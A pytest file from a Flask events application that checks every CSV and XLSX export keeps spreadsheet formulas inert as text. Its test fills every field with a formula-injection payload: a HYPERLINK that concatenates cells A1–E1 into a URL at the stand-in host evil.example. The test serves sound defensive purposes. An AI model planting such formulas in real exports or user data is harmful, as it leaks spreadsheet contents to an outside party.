"""A text that a spreadsheet would calculate stays text in every file that leaves the system."""

import ast
import csv
import io
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import select
from werkzeug.test import TestResponse

import gtn_events
from gtn_events.accounts.enums import Role
from gtn_events.competition.enums import EntryPath
from gtn_events.core.db import db
from gtn_events.core.economies import economies_in_order
from gtn_events.core.exports import FORMULA_STARTS, XLSX_TYPE
from gtn_events.forum.models import SideEvent
from tests.attack.full_forum import FullForum, make_full_forum
from tests.attack.typed import type_everywhere
from tests.factories import grant_role, sign_in

ROOT = Path(gtn_events.__file__).parent
SENDERS = {"csv_response", "xlsx_response", "workbook_response", "csv_chunks", "xlsx_file"}
# What can be exported of the dashboard of a call, and of the participation in a forum.
TABLES = ("calls", "hosts", "flows", "outcomes", "changes", "economies", "economy", "sessions", "side-events")
WRITERS = {"csv", "xlsxwriter", "openpyxl"}


def imported(path: Path) -> set[str]:
    """Every module and name that a file imports."""
    names: set[str] = set()
    for node in ast.walk(ast.parse(path.read_text())):
        if isinstance(node, ast.Import | ast.ImportFrom):
            names |= {alias.name for alias in node.names}
            names |= {node.module or ""} if isinstance(node, ast.ImportFrom) else set()
    return names


def module_of(path: Path) -> str:
    return ".".join(("gtn_events", *path.relative_to(ROOT).with_suffix("").parts))


def modules(wanted: set[str]) -> set[str]:
    return {module_of(path) for path in ROOT.rglob("*.py") if imported(path) & wanted}


def is_number(text: str) -> bool:
    return text.replace(".", "", 1).removeprefix("-").isdigit()


def csv_cells(data: bytes) -> Iterator[tuple[str, bool]]:
    """Every cell, and whether it would be calculated."""
    for line in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
        for cell in line:
            yield cell.removeprefix("'"), cell.startswith(FORMULA_STARTS) and not is_number(cell)


def xlsx_cells(data: bytes) -> Iterator[tuple[str, bool]]:
    """Every cell, and whether it is calculated, or would be once somebody presses Enter in it."""
    for page in load_workbook(io.BytesIO(data)):
        for line in page.iter_rows():
            for cell in line:
                typed = cell.value if isinstance(cell.value, str) else ""
                yield typed, cell.data_type == "f" or (typed.startswith(FORMULA_STARTS) and not cell.quotePrefix)


def cells_of(response: TestResponse) -> list[tuple[str, bool]]:
    if response.mimetype == "text/csv":
        return list(csv_cells(response.data))
    return list(xlsx_cells(response.data)) if response.mimetype == XLSX_TYPE else []


@pytest.fixture
def place(database: None) -> FullForum:
    return make_full_forum("sums-forum", "sumsword")


@pytest.fixture
def reader(client: FlaskClient, place: FullForum) -> FlaskClient:
    """The browser of somebody who reads every file: administrator, coordinator, travel officer and host at once."""
    person = place.organiser
    grant_role(person, Role.ADMINISTRATOR)
    grant_role(person, Role.TRAVEL_OFFICER, place.forum.scope)
    for economy in economies_in_order():
        grant_role(person, Role.ECONOMY_COORDINATOR, economy.scope)
    place.entered.competition.entry_path = EntryPath.ENDORSED
    db.session.commit()
    for event in db.session.scalars(select(SideEvent)).all():
        grant_role(person, Role.SIDE_EVENT_HOST, event.host_scope)
    sign_in(client, person)
    return client


def test_only_what_keeps_formulas_out_writes_tables() -> None:
    assert modules(WRITERS) == {
        "gtn_events.core.exports",
        "gtn_events.core.sheets",  # reads
        "gtn_events.delegations.sheet_files",
    }


def requests(app: Flask, place: FullForum, views: set[str]) -> Iterator[tuple[str, str, dict[str, str]]]:
    """Every way to ask one of these views for a file: its kind stands in the address or in a form."""
    for rule in app.url_map.iter_rules():
        endpoint, methods = rule.endpoint, rule.methods or ()
        if app.view_functions[endpoint].__module__ not in views and "export" not in endpoint:
            continue
        for kind in ("csv", "xlsx"):
            endings = {"filename": f"programme.{kind}", "ending": kind}
            named = {name: end for name, end in endings.items() if name in rule.arguments}
            address = place.address(app, rule, **named)
            if "GET" in methods:
                yield "GET", f"{address}?format={kind}", {}
            elif "export" in endpoint:
                for what in TABLES:
                    yield "POST", address, {"format": kind, "as": kind, "answers": "1", "sensitive": "1", "what": what}


@pytest.mark.parametrize("sign", FORMULA_STARTS)
def test_no_file_lets_a_formula_through(
    app: Flask, reader: FlaskClient, place: FullForum, monkeypatch: pytest.MonkeyPatch, sign: str
) -> None:
    typed = f'{sign}HYPERLINK("https://evil.example/?"&A1&B1&C1&D1&E1,"more about it")'
    type_everywhere(typed)
    views = {name for name in modules(SENDERS) if ".views." in name}
    sent: set[str] = set()
    for view in views:
        for sender in SENDERS & vars(sys.modules[view]).keys():
            monkeypatch.setattr(sys.modules[view], sender, noting(sent, view, getattr(sys.modules[view], sender)))
    calculated, shown = [], 0
    # Who organises here judges the competition, too, and so does not see it as a coordinator.
    for person in (place.organiser, place.entered.coordinator):
        sign_in(reader, person)
        for method, address, fields in requests(app, place, views - sent):
            with reader.open(address, method=method, data=fields) as response:
                cells = cells_of(response)
            shown += typed.strip() in {cell.strip() for cell, _bad in cells}
            calculated += [(address, cell) for cell, bad in cells if bad]
    assert (calculated, views - sent, shown > 10) == ([], set(), True)


def noting(sent: set[str], view: str, send: Any) -> Any:  # Any: one of the functions that make a file
    """Return the same function, which notes for whom it was called."""

    def wrapper(*args: Any, **kwargs: Any) -> Any:
        sent.add(view)
        return send(*args, **kwargs)

    return wrapper
